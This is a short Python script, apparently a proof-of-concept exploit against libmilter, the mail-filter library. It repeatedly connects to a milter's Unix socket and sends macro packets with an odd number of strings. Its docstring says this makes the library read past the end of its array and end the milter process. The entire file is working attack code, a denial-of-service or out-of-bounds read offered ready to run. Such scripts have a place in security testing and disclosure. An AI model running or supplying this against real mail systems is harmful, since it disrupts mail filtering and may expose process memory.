#!/usr/bin/env python3
"""Ends a milter again and again: macro packets with an odd number of strings, where libmilter reads on behind its array.

milter_ender.py SOCKET TIMES      TIMES: how often to try; between two tries the milter may be away
"""
import socket
import struct
import sys
import time


def packet(command, data=b""):
    return struct.pack(">I", len(data) + 1) + command + data


def strings(*texts):
    return b"".join(t + b"\0" for t in texts)


CONNECT = b"client.example\0" + b"4" + struct.pack(">H", 4000) + b"192.0.2.7\0"


def try_once(path, extra):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(2)
        s.connect(path)
        s.sendall(packet(b"O", struct.pack(">III", 6, 0x1FF, 0x1FFFFF)) + packet(b"C", CONNECT))
        macros = strings(b"{mail_addr}", b"x", b"odd", *[b"x"] * extra)
        s.sendall(packet(b"D", b"M" + macros) + packet(b"M", strings(b"<anna@contoso.example>")))
        while s.recv(4096):
            pass


for i in range(int(sys.argv[2])):
    try:
        try_once(sys.argv[1], 2 * (i % 9))
    except OSError:
        pass
    time.sleep(0.05)
